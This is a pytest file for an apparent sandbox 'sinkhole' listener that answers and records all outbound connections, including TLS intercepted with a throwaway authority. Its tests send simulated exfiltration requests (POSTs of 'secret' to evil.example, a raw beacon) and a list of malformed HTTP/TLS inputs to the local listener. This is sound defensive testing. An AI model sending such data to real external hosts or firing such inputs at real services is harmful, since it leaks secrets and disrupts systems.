"""The listener that answers everything and keeps what was said."""

import contextlib
import socket
import ssl
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest

from haldir_sandbox import sinkhole
from haldir_sandbox._certificates import Authority, write_certificate
from haldir_sandbox.sinkhole import Request, Sinkhole


@pytest.fixture
def open_sinkhole(authority: Authority) -> Iterator[Sinkhole]:
    with Sinkhole(authority) as made:
        yield made


def ask(sink: Sinkhole, data: bytes) -> bytes:
    with socket.create_connection(sink.address, 5) as connection:
        connection.sendall(data)
        connection.shutdown(socket.SHUT_WR)
        answer = b""
        while part := connection.recv(4096):
            answer += part
        return answer


def one(sink: Sinkhole) -> Request:
    (request,) = sink.taken()
    return request


def test_a_plain_request_is_answered_and_kept(open_sinkhole: Sinkhole) -> None:
    answer = ask(open_sinkhole, b"POST /in?x=1 HTTP/1.1\r\nHost: Evil.example:8080\r\nContent-Length: 6\r\n\r\nsecret")
    assert answer.startswith(b"HTTP/1.1 200 OK\r\n")
    request = one(open_sinkhole)
    assert (request.method, request.host, request.port, request.path, request.body) == (
        "POST", "evil.example", 8080, "/in?x=1", b"secret",
    )  # fmt: skip


def test_a_proxied_request_names_its_host(open_sinkhole: Sinkhole) -> None:
    ask(open_sinkhole, b"GET http://evil.example/a/b HTTP/1.1\r\nHost: other\r\n\r\n")
    request = one(open_sinkhole)
    assert (request.host, request.port, request.path) == ("evil.example", 80, "/a/b")


def test_tls_through_a_proxy_is_opened_with_the_throwaway_authority(open_sinkhole: Sinkhole, tmp_path: Path) -> None:
    trusted = ssl.create_default_context(cafile=str(write_certificate(tmp_path, open_sinkhole.authority)))
    proxy = urllib.request.ProxyHandler({"https": "http://{}:{}".format(*open_sinkhole.address)})
    opener = urllib.request.build_opener(proxy, urllib.request.HTTPSHandler(context=trusted))
    with opener.open("https://evil.example/in", data=b"secret", timeout=10) as answer:
        assert answer.read() == b"{}\n"
    request = one(open_sinkhole)
    assert (request.tls, request.host, request.port, request.body) == (True, "evil.example", 443, b"secret")


def test_the_name_in_tls_is_kept_where_the_client_does_not_trust_us(open_sinkhole: Sinkhole) -> None:
    with socket.create_connection(open_sinkhole.address, 5) as plain, pytest.raises(ssl.SSLError):
        ssl.create_default_context().wrap_socket(plain, server_hostname="pinned.example")
    open_sinkhole.__exit__()
    assert one(open_sinkhole).host == "pinned.example"


def test_what_is_no_http_is_kept_as_bytes(open_sinkhole: Sinkhole) -> None:
    ask(open_sinkhole, b"\0\1\2 raw beacon")
    request = one(open_sinkhole)
    assert (request.method, request.host, request.body) == ("", None, b"\0\1\2 raw beacon")


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"\x16",
        b"\x16\x03\x01" + b"\xff" * 500,
        b"GET",
        b"GET \r\n\r\n",
        b"CONNECT \r\n\r\nCONNECT x:y HTTP/1.1\r\n\r\nCONNECT x:99999999 HTTP/1.1\r\n\r\n",
        b"POST / HTTP/1.1\r\nContent-Length: 99999999999999999999999\r\n\r\nx",
        b"POST / HTTP/1.1\r\nContent-Length: \xb2\r\n\r\nx",
        b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n\r\n",
        b"GET http://[::1 HTTP/1.1\r\n\r\n",
        b"GET http://x:99999999/ HTTP/1.1\r\n\r\n",
        b"GET / HTTP/1.1\r\n" + b"A: b\r\n" * 10_000,
        b"GET /" + b"a" * 100_000,
    ],
    ids=range(13),
)
def test_nonsense_does_not_end_the_listener(open_sinkhole: Sinkhole, data: bytes) -> None:
    with contextlib.suppress(OSError):
        ask(open_sinkhole, data)
    open_sinkhole.taken()
    assert ask(open_sinkhole, b"GET /still HTTP/1.1\r\nHost: a\r\n\r\n").startswith(b"HTTP/1.1 200")


def test_a_flood_is_cut_and_counted(open_sinkhole: Sinkhole, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sinkhole, "MAX_CAPTURES", 3)
    for _ in range(5):
        ask(open_sinkhole, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n")
    assert len(open_sinkhole.taken()) == 3
    assert open_sinkhole.refused == 2


def test_a_large_body_is_cut(open_sinkhole: Sinkhole) -> None:
    size = 2 * sinkhole.MAX_BODY_BYTES
    with contextlib.suppress(OSError):  # it answers before everything was sent
        ask(open_sinkhole, b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: %d\r\n\r\n" % size + b"x" * size)
    assert len(one(open_sinkhole).body) <= sinkhole.MAX_BODY_BYTES
